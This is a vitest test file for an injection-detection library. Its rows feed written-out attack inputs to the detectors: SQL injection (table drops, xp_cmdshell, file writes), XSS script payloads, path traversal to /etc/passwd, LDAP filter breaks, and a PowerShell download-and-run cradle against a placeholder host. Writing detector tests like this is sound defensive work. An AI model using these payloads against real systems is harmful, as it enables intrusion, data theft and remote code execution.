/**
 * The detectors' cheap tests (character scans, the SQL shortcuts for prose, the long-text paths)
 * must answer exactly what the full detectors answer. Each row pins the rule found at the standard,
 * strict and permissive levels for an input at the edge of one of those tests: a statement after
 * `;`, a trigger word and the word after it, quotes closed by prose, words whose case mapping is
 * not ASCII, pieces of long texts. The expectations were recorded from the detectors as they were
 * before the cheap tests were added.
 */

import { describe, expect, it } from 'vitest';
import { detectCommand, detectLdap, detectNosql, detectPath, detectSql, detectXss, type InjectionKind, type SecurityLevel } from '../../src/core/detect/index.js';

const DETECT = { sql: detectSql, xss: detectXss, command: detectCommand, path: detectPath, nosql: detectNosql, ldap: detectLdap } as const;

// Over 256 characters with any input after it: the path detector then reads pieces, not the whole.
const PROSE = 'Hi there, I\'m writing about my order #1234 from last week. The package arrived, but the blue sweater (size M) was missing and the receipt says it\'s back-ordered until 3/15. Could you check whether it\'s shipped yet? ';

type Row = [InjectionKind, string, string | null, string | null, string | null];

const ROWS: Row[] = [
  ['sql', `${PROSE}; drop table users`, 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', `${PROSE};/**/drop table users`, 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', `${PROSE};\tDROP TABLE users;`, 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', `${PROSE}; if (1=1) waitfor delay '0:0:5'`, 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', `${PROSE}; maybe later`, null, null, null],
  ['sql', 'x\u0130\u0130; drop table users', 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', '1 union all select 1,2', 'union-select', 'union-select', 'union-select'],
  ['sql', '1 UNION DISTINCT SELECT password FROM users', 'union-select', 'union-select', 'union-select'],
  ['sql', '1 union (select 1)', 'union-select', 'union-select', 'union-select'],
  ['sql', '1 union in the street', null, null, null],
  ['sql', 'x\' into outfile \'/tmp/x', 'file-write', 'file-write', 'file-write'],
  ['sql', 'x into dumpfile /tmp/x', 'file-write', 'file-write', 'file-write'],
  ['sql', 'put it into the box', null, null, null],
  ['sql', '1 procedure analyse()', 'sql-clause', 'sql-clause', 'sql-clause'],
  ['sql', '1; waitfor delay \'0:0:5\'', 'stacked-query', 'stacked-query', 'stacked-query'],
  ['sql', 'waitfor time \'12:00\'', 'time-delay', 'time-delay', 'time-delay'],
  ['sql', 'exec master..xp_cmdshell \'dir\'', 'sql-function', 'sql-function', 'stored-procedure'],
  ['sql', 'exec xp_cmdshell \'dir\'', 'sql-function', 'sql-function', 'stored-procedure'],
  ['sql', 'exec masters of the universe', null, null, null],
  ['sql', 'EXEC sp_executesql @q', 'sql-function', 'sql-function', 'stored-procedure'],
  ['sql', 'O\'Brien', null, null, null],
  ['sql', 'x\' or \'a\'=\'a', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'x\'/**/or/**/1=1--', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'x\' N\'abc\'', null, null, null],
  ['sql', 'x\' e\'abc\' or 1=1', 'quote-break', 'quote-break', null],
  ['sql', 'a\\\' or 1=1 --', null, null, null],
  ['sql', 'it\'\'s\' or 1=1 --', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'say "hello" world', null, null, null],
  ['sql', 'say "hello" or 1=1 --', null, null, null],
  ['sql', 'x\' order by 1--', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'x\' group by password having 1=1--', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'x` or 1=1 #', 'quote-break', 'quote-break', 'quote-break'],
  ['sql', 'hello world', null, null, null],
  ['sql', 'Springfield', null, null, null],
  ['sql', 'Springfield   ', null, null, null],
  ['sql', 'execute immediate \'select 1\'', 'stored-procedure', 'stored-procedure', 'stacked-query'],
  ['sql', 'exec(\'x\')', 'stored-procedure', 'stored-procedure', null],
  ['sql', 'execution plan', null, null, null],
  ['sql', 'sleep', null, null, null],
  ['sql', 'trim(', 'function-probe', 'function-probe', null],
  ['sql', 'current user(', 'function-probe', 'function-probe', null],
  ['sql', 'my version ( ', 'sql-function', 'sql-function', 'sql-function'],
  ['sql', 'N\'abc\'', null, null, null],
  ['sql', 'n o', null, null, null],
  ['sql', 'select password from users where id = 1', 'select-statement', 'select-statement', null],
  ['sql', 'hello (select 1)', 'sql-expression', 'sql-expression', 'sql-expression'],
  ['sql', 'a.b c', null, null, null],
  ['sql', '42 Main St.', null, null, null],
  ['sql', '1 or 1=1', 'tautology', 'sql-syntax', 'tautology'],
  ['sql', 'admin or 1=1 --', 'tautology', 'sql-syntax', 'tautology'],
  ['sql', 'order by 1--', 'sql-clause', 'sql-syntax', null],
  ['sql', `${PROSE} select * from information_schema.tables`, 'system-catalog', 'system-catalog', 'system-catalog'],
  ['sql', `${PROSE} mysql.user`, 'system-catalog', 'system-catalog', 'system-catalog'],
  ['sql', `${PROSE} master.dbo.sysdatabases`, 'system-catalog', 'system-catalog', 'system-catalog'],
  ['sql', `${PROSE} from sys.objects`, 'system-catalog', 'system-catalog', 'system-catalog'],
  ['sql', `${PROSE} 1.e(ascii 1)`, 'number-glue', 'number-glue', 'number-glue'],
  ['xss', `${PROSE} document.cookie`, 'script-dom', 'script-dom', null],
  ['xss', `${PROSE} self['alert'](1)`, 'script-global', 'script-global', null],
  ['xss', `${PROSE} alert\`1\``, 'script-call', 'script-call', null],
  ['xss', `${PROSE} x.innerHTML=1`, 'script-dom', 'script-dom', null],
  ['xss', `${PROSE} x.coo\u212aie=1`, 'script-dom', 'script-dom', null],
  ['xss', `${PROSE} ALERT(1)`, 'script-call', 'script-call', null],
  ['xss', `${PROSE} [1].find(alert)`, 'script-sink', 'script-sink', null],
  ['xss', 'onerror', 'event-handler', 'event-handler', null],
  ['xss', '  OnError  ', 'event-handler', 'event-handler', null],
  ['xss', 'one error', null, null, null],
  ['path', `${PROSE} see ../../etc/passwd`, 'traversal', 'traversal', 'traversal'],
  ['path', `${PROSE}\t.htaccess`, 'system-file', 'system-file', 'system-file'],
  ['path', `${PROSE}\u00a0.htaccess`, 'system-file', 'system-file', 'system-file'],
  ['path', `${PROSE} 0x2e0x2e/0x2e0x2e/etc/hosts`, 'traversal', 'traversal', 'traversal'],
  ['path', `${PROSE} backup.sql`, 'backup-file', 'backup-file', 'backup-file'],
  ['path', `${PROSE} backup.sql.gz`, 'backup-file', 'backup-file', 'backup-file'],
  ['path', `${PROSE} /var/log/debug.log`, 'system-file', 'system-file', 'system-file'],
  ['path', `${PROSE} x\u2215etc\u2215passwd`, 'system-file', 'system-file', 'system-file'],
  ['path', `${PROSE} %2e%2e%2fetc`, 'traversal', 'traversal', 'traversal'],
  ['path', `.env ${PROSE}`, null, null, null],
  ['path', `${PROSE} ..`, null, null, null],
  ['path', `${PROSE} a..b..c..d`, 'traversal', 'traversal', 'traversal'],
  ['nosql', '\'; sleep(5000)', 'server-side-js', 'server-side-js', null],
  ['nosql', `${PROSE}; sleep (1)`, 'server-side-js', 'server-side-js', null],
  ['nosql', 'db.users.find ()', 'server-side-js', 'server-side-js', null],
  ['nosql', 'this.password.match(/.*/)', 'server-side-js', 'server-side-js', null],
  ['nosql', 'this.a == 1', 'server-side-js', 'server-side-js', null],
  ['nosql', '\' ; return true', 'server-side-js', 'server-side-js', null],
  ['command', 'powershell Invoke-WebRequest http://x', 'powershell', 'powershell', 'powershell'],
  ['command', 'IEX (New-Object Net.WebClient).DownloadString (\'http://x\')', 'powershell', 'powershell', 'powershell'],
  ['command', 'powershell -EncodedCommand abc', 'powershell', 'powershell', 'powershell'],
  ['command', `${PROSE} | cat /etc/passwd`, 'command-chain', 'command-chain', 'command-chain'],
  ['ldap', `${PROSE} *)(uid=*))(|(uid=*`, 'filter-break', 'filter-break', 'filter-break'],
  ['ldap', `${PROSE} admin)(&)`, 'filter-break', 'filter-break', 'filter-break'],
  ['ldap', '*)(|(objectClass=*))', 'filter-break', 'filter-break', 'filter-break'],
  ['ldap', `${PROSE} (see note) and (call me)`, null, 'filter-metacharacter', null],
  ['xss', `${PROSE} %3Cscript%3Ealert(1)%3C/script%3E`, 'dangerous-element', 'dangerous-element', 'dangerous-element'],
  ['xss', `${PROSE} &lt;script&gt;alert(1)&lt;/script&gt;`, 'script-call', 'script-call', 'dangerous-element'],
  ['xss', `${PROSE} \uff1cscript\uff1ealert(1)\uff1c/script\uff1e`, 'dangerous-element', 'dangerous-element', 'dangerous-element'],
  ['xss', `${PROSE} <scr\u0000ipt>alert(1)</script>`, 'dangerous-element', 'markup', 'dangerous-element'],
  ['sql', `${PROSE} \\u0027 or 1=1 --`, null, null, null],
];

describe('cheap tests answer as the full detectors do', () => {
  const levels: SecurityLevel[] = ['standard', 'strict', 'permissive'];
  it.each(ROWS)('%s: %j', (kind, text, ...expected) => {
    expect(levels.map((level) => DETECT[kind](text, level)?.rule ?? null)).toEqual(expected);
  });
});
